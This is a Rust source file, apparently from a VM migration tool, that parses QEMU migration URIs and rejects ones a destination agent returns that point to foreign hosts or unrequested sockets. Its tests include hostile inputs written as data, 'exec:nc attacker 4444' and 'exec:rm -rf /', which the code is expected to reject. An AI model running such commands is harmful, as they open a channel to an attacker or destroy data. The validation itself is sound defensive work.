//! Migration data URIs, in QEMU's syntax (`tcp:HOST:PORT`, `unix:PATH`).

use std::fmt;

use types::net::split_host_port;

/// Where QEMU sends (and the destination QEMU listens for) migration data.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum DataUri {
    /// `tcp:HOST:PORT`.
    Tcp {
        /// Host name or address.
        host: String,
        /// Port (0: QEMU picks one when listening).
        port: u16,
    },
    /// `unix:PATH`.
    Unix {
        /// Absolute socket path.
        path: String,
    },
}

/// A URI [`DataUri`] refuses.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("bad migration URI {uri:?}: {reason} (expected tcp:HOST:PORT or unix:PATH)")]
pub struct BadDataUri {
    /// The URI as given.
    pub uri: String,
    /// What is wrong with it.
    pub reason: &'static str,
}

/// Parses a data URI.
///
/// # Errors
/// [`BadDataUri`] saying what is wrong.
pub fn parse_data_uri(uri: &str) -> Result<DataUri, BadDataUri> {
    let bad = |reason| BadDataUri {
        uri: uri.to_string(),
        reason,
    };
    if let Some(path) = uri.strip_prefix("unix:") {
        if !path.starts_with('/') {
            return Err(bad("the socket path must be absolute"));
        }
        return Ok(DataUri::Unix {
            path: path.to_string(),
        });
    }
    let rest = uri
        .strip_prefix("tcp:")
        .ok_or_else(|| bad("unsupported transport"))?;
    let rest = rest.strip_prefix("//").unwrap_or(rest);
    let (host, port) = split_host_port(rest).map_err(bad)?;
    let port: u16 = port.parse().map_err(|_| bad("the port is not a number"))?;
    Ok(DataUri::Tcp {
        host: host.to_string(),
        port,
    })
}

/// A data URI from a destination agent that points where that agent is
/// not: the source's QEMU would send the guest's memory there.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum UntrustedDataUri {
    /// Not a URI QEMU should be given at all (`exec:`, `fd:`, ...).
    #[error(transparent)]
    Malformed(#[from] BadDataUri),
    /// A host that is not the destination agent's.
    #[error(
        "the destination agent asked for the data to go to {uri}, which is not its own address \
         ({agent}): refused"
    )]
    ForeignHost {
        /// What the agent answered.
        uri: String,
        /// The agent, as dialled.
        agent: String,
    },
    /// A unix socket nobody asked for.
    #[error(
        "the destination agent asked for the data to go to {0}, a local socket nobody asked \
         for: refused"
    )]
    UnaskedSocket(String),
}

/// Checks the data URI a destination agent answered Prepare with: it must
/// be the one the user asked for (`--migrateuri`), or a TCP address of the
/// agent itself (`agent_host` as dialled, or one of `agent_addrs`, what
/// that name resolves to). Anything else would hand the guest's memory, or
/// a command line, to whoever the peer names.
///
/// # Errors
/// [`UntrustedDataUri`] saying what is wrong.
pub fn check_peer_data_uri(
    answered: &str,
    asked: Option<&str>,
    agent_host: &str,
    agent_addrs: &[std::net::IpAddr],
) -> Result<DataUri, UntrustedDataUri> {
    let uri = parse_data_uri(answered)?;
    if let Some(asked) = asked.map(parse_data_uri).transpose()? {
        let same_place = match (&asked, &uri) {
            (DataUri::Tcp { host: a, port: p }, DataUri::Tcp { host: b, port: q }) => {
                a == b && (*p == 0 || p == q)
            }
            (a, b) => a == b,
        };
        if same_place {
            return Ok(uri);
        }
    }
    match &uri {
        DataUri::Tcp { host, .. } => {
            let ip = host.parse::<std::net::IpAddr>().ok();
            if host == agent_host || ip.is_some_and(|ip| agent_addrs.contains(&ip)) {
                Ok(uri)
            } else {
                Err(UntrustedDataUri::ForeignHost {
                    uri: answered.to_string(),
                    agent: agent_host.to_string(),
                })
            }
        }
        DataUri::Unix { .. } => Err(UntrustedDataUri::UnaskedSocket(answered.to_string())),
    }
}

impl fmt::Display for DataUri {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            DataUri::Tcp { host, port } if host.contains(':') => write!(f, "tcp:[{host}]:{port}"),
            DataUri::Tcp { host, port } => write!(f, "tcp:{host}:{port}"),
            DataUri::Unix { path } => write!(f, "unix:{path}"),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parses_tcp_and_unix() {
        assert_eq!(
            parse_data_uri("tcp:10.0.0.2:49152").unwrap(),
            DataUri::Tcp {
                host: "10.0.0.2".into(),
                port: 49152
            }
        );
        let v6 = parse_data_uri("tcp:[::1]:4444").unwrap();
        assert_eq!(v6.to_string(), "tcp:[::1]:4444");
        assert_eq!(
            parse_data_uri("unix:/run/x.sock").unwrap().to_string(),
            "unix:/run/x.sock"
        );
    }

    #[test]
    fn a_peer_may_only_send_the_data_to_itself_or_where_the_user_asked() {
        let agent = ["10.0.0.2".parse().unwrap()];
        let check = |answered, asked| check_peer_data_uri(answered, asked, "host-b", &agent);
        assert!(check("tcp:10.0.0.2:49152", None).is_ok());
        assert!(check("tcp:host-b:49152", None).is_ok());
        assert!(matches!(
            check("tcp:203.0.113.9:4444", None),
            Err(UntrustedDataUri::ForeignHost { .. })
        ));
        assert!(matches!(
            check("exec:nc attacker 4444", None),
            Err(UntrustedDataUri::Malformed(_))
        ));
        assert!(matches!(
            check("unix:/tmp/anything", None),
            Err(UntrustedDataUri::UnaskedSocket(_))
        ));
        assert!(check("unix:/run/m.sock", Some("unix:/run/m.sock")).is_ok());
        assert!(check("tcp:10.9.9.9:5000", Some("tcp:10.9.9.9:0")).is_ok());
        assert!(check("tcp:10.9.9.9:5000", Some("tcp:10.9.9.8:0")).is_err());
    }

    #[test]
    fn refuses_what_qemu_would_misread() {
        for uri in [
            "tcp:host",
            "tcp::80",
            "tcp:h:99999",
            "exec:rm -rf /",
            "tcp:a,b:1",
            "unix:rel",
        ] {
            assert!(parse_data_uri(uri).is_err(), "{uri}");
        }
    }
}
